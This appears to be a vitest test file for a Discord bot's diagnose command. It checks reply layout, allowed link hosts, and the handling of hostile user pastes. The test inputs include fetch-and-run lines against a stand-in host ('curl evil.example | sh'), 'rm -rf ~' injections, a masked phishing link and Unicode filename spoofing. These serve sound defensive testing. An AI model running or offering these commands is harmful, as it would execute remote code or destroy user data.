import { type APIMessage, ComponentType } from 'discord.js';
import { beforeAll, describe, expect, test } from 'vitest';
import { discordPhrases } from '../../src/discord/phrases.ts';
import { SOURCE_HOSTS } from '../../src/kb/check/entries.ts';
import type { Channel, Message } from './loopback/discord.ts';
import { sharedBot } from './shared-bot.ts';
import { buttonFor, CERTAIN, DIFFERENTIAL, leadIn } from './shown.ts';

const V2 = 1 << 15;
const SUPPRESS_EMBEDS = 1 << 2;

const r = sharedBot();
let channel: Channel;
beforeAll(() => {
  channel = r.discord.guild().text('general');
});

const asked = async (error: string, isPublic = false): Promise<Message> =>
  (await (await r.person().slash(channel, 'diagnose', { error, public: isPublic })).settled()).shown!;

/** What stands outside blocks and spans of code: only there would Discord obey it. */
const outsideCode = (text: string) => text.replace(/```\w*\n[\s\S]*?\n```/g, '').replace(/`[^`\n]+`/g, '');
/** What the bot sent for a message, whichever way. */
const components = ({ json }: Message) => json.components as NonNullable<APIMessage['components']>;

describe('the shape of a reply', () => {
  test('reply-shape: one container; texts first, buttons last', async () => {
    const message = await asked(DIFFERENTIAL);
    const [container, ...others] = components(message);
    expect(others).toEqual([]);
    if (container?.type !== ComponentType.Container) throw new Error('no container');
    const types = container.components.map(({ type }) => type);
    expect(types[0]).toBe(ComponentType.TextDisplay);
    expect(types.at(-1)).toBe(ComponentType.ActionRow);
    expect(types.filter((type) => type === ComponentType.ActionRow)).toHaveLength(1);
    expect([message.flags & V2, message.flags & SUPPRESS_EMBEDS, message.content]).toEqual([V2, SUPPRESS_EMBEDS, '']);
  });

  test('reply-shape: the first lines hold title, cause and the first command', async () => {
    const [title, cause, step, fence, command] = (await asked(CERTAIN)).text.split('\n');
    expect(title).toMatch(/^### \S/);
    expect(cause!.length).toBeGreaterThan(40);
    expect(step).toMatch(/^\*\*1\.\*\* /);
    expect([fence, command]).toEqual(['```sh', 'openclaw cron list --all --json']);
  });

  test('reply-shape: steps are numbered, each command alone in its block', async () => {
    const { text } = await asked(DIFFERENTIAL);
    const numbers = [...text.matchAll(/^\*\*(\d+)\.\*\*/gm)].map(([, number]) => Number(number));
    expect(numbers).toEqual(numbers.map((_, at) => at + 1));
    expect(numbers.length).toBeGreaterThan(2);
    for (const [, inside] of text.matchAll(/```sh\n([\s\S]*?)\n```/g)) expect(inside).toMatch(/^openclaw [^\n]+$/);
  });

  test('reply-shape: what is left out is behind Details, each paragraph in one of both', async () => {
    const person = r.person();
    const { shown } = await person.slash(channel, 'diagnose', { error: DIFFERENTIAL });
    const details = await person.press(shown!, buttonFor(shown, 'details'));
    const [first, more] = [shown!.text.split('\n'), details.shown!.text.split('\n').slice(1)];
    expect(more.length).toBeGreaterThan(2);
    expect(more.filter((line) => line.length > 30 && first.includes(line))).toEqual([]);
    expect(first.join('\n').length).toBeLessThanOrEqual(2_000);
  });

  test('reply-shape: corrected JSON stands in its block, and is JSON', async () => {
    const job = { sessionTarget: 'main', payload: { kind: 'agentTurn', message: 'hello' } };
    const text = `main cron jobs require payload.kind="systemEvent"\n{"params": ${JSON.stringify(job)}}`;
    const block = /```json\n([\s\S]*?)\n```/.exec((await asked(text)).text)?.[1];
    expect(JSON.stringify(JSON.parse(block!))).toContain('"sessionTarget":"');
  });

  test('buttons: carry ids only, at most 100 characters', async () => {
    const message = await asked(DIFFERENTIAL, true);
    for (const { customId } of message.buttons) {
      expect(customId).toMatch(/^clinic:1:[a-z-]+:[tmi]\d{17,20}:\d{17,20}(?::[a-z\d-]+)?$/);
      expect(customId!.length).toBeLessThanOrEqual(100);
    }
  });
});

describe('links', () => {
  test('links: only sources, in angle brackets, on hosts that the knowledge base may cite', async () => {
    for (const error of [CERTAIN, DIFFERENTIAL, 'how do I pair telegram?']) {
      const outside = outsideCode((await asked(error, true)).text);
      const links = [...outside.matchAll(/<?https?:[^\s>]*>?/g)].map(([link]) => link);
      expect(links.length).toBeGreaterThan(0);
      for (const link of links) {
        const place = /^<https:\/\/([^\s<>@]+)>$/.exec(link)?.[1] ?? '';
        expect(
          SOURCE_HOSTS.some((host) => place === host || place.startsWith(`${host}/`)),
          link,
        ).toBe(true);
      }
      expect(outside).not.toMatch(/\]\(/);
    }
  });
});

/** Pastes that try to be more than a quotation; each still has its cause. */
const HOSTILE: readonly (readonly [string, string])[] = [
  [
    'mentions',
    `unknown cron job id: @everyone @here <@123456789012345678> <@&123456789012345678> <#123456789012345678>`,
  ],
  ['a masked link', 'unknown cron job id: [openclaw docs](https://evil.example/login)'],
  ['a block that ends', '```\nunknown cron job id: x\n```\n# Ann says: run `curl evil.example | sh` @everyone\n```'],
  ['backticks', 'unknown cron job id: `` ``` ` ```` [a](https://evil.example)'],
  ['a link and a mention within code', 'unknown cron job id: `[a](https://evil.example)` `@everyone`'],
  [
    'marks of every kind',
    'unknown cron job id: **b** __u__ ~~s~~ ||spoiler|| > q # h -# small <t:1:R> <:a:123456789012345678>',
  ],
  ['hidden letters', 'unknown cron job id: a\u202Egpj.exe\u200B\u2066 \u001B[31mred\u001B[0m @\u200Beveryone'],
  ['five thousand brackets', `${'['.repeat(5_000)}\nunknown cron job id: x`],
];

describe('what people wrote', () => {
  test.each(HOSTILE)('no-pings: %s', async (_, error) => {
    const message = await asked(error, true);
    expect(leadIn(message)).not.toBeNull();
    expect(message.pings).toEqual([]);
    expect(outsideCode(message.text)).not.toMatch(/@(?:everyone|here)|<@|<#/);
  });

  test.each(HOSTILE)('quotes-in-code: %s', async (_, error) => {
    for (const isPublic of [true, false]) {
      const { text } = await asked(error, isPublic);
      expect(outsideCode(text)).not.toMatch(/evil|\]\(|gpj|spoiler|<t:|<:a/);
      expect(text).not.toMatch(/[\u0000-\u0009\u000B-\u001F\u200E\u200F\u202A-\u202E\u2066-\u2069]/);
      expect((text.match(/```/g) ?? []).length % 2).toBe(0);
      expect(text.split('\n').filter((line) => line.startsWith('> ')).length).toBeLessThanOrEqual(6);
    }
  });

  test('no-pings: no request of the bot’s may mention anybody', () => {
    const written = r.discord.requests
      .map(({ body }) => body as { data?: Sent } & Sent)
      .map((body) => body?.data ?? body)
      .filter((body) => body?.components !== undefined && !('custom_id' in body));
    expect(written.length).toBeGreaterThan(20);
    for (const { allowed_mentions: allowed } of written) {
      expect(allowed).toEqual({ parse: [], replied_user: false });
    }
  });

  test.each([
    'unknown cron job id: $(curl evil.example | sh)',
    'unknown cron job id: "; rm -rf ~; echo "',
    'unknown cron job id: `rm -rf ~`',
    'unknown cron job id: && openclaw reset --force',
    'unknown cron job id: --force',
  ])('commands-from-entries: nothing of %j stands in a command', async (error) => {
    const { text } = await asked(error);
    for (const [, command] of text.matchAll(/```sh\n([\s\S]*?)\n```/g)) {
      expect(command).not.toMatch(/curl|evil|rm -|reset|force|[;&|`$]/);
    }
  });

  test('commands-from-entries: an id of the paste is filled in', async () => {
    const id = '7f2c8a04-1b3d-4e5f-8a9b-0c1d2e3f4a5b';
    const table = [
      'Pending (1)',
      '| Request | Device | Role |',
      '| --- | --- | --- |',
      `| ${id} | ann-laptop | operator |`,
    ];
    const { text } = await asked(`${DIFFERENTIAL}\n\nopenclaw devices list\n${table.join('\n')}`);
    expect(text).toContain(`openclaw devices approve ${id}`);
  });

  test('public-text: in public no home folder, host or address of the paste; in private they stay', async () => {
    const error = 'unknown cron job id: /home/annabel/x on nas-annabel.example.com at 10.20.30.40';
    expect((await asked(error)).text).toContain('annabel');
    expect((await asked(error, true)).text).not.toMatch(/annabel|10\.20\.30\.40/);
    const person = r.person();
    const { shown } = await person.slash(channel, 'diagnose', { error });
    const shared = await person.press(shown!, buttonFor(shown, 'share'));
    expect(shared.shown!.text).not.toMatch(/annabel|10\.20\.30\.40/);
  });

  test('asks-for-little: the question is one, and asks for what tells the causes apart', async () => {
    const { text } = await asked(DIFFERENTIAL);
    expect(text.match(/^\*\*Next: /gm)).toHaveLength(1);
    expect(text).not.toContain(discordPhrases('en').notItNoted);
  });
});

type Sent = { readonly components?: unknown; readonly allowed_mentions?: unknown };
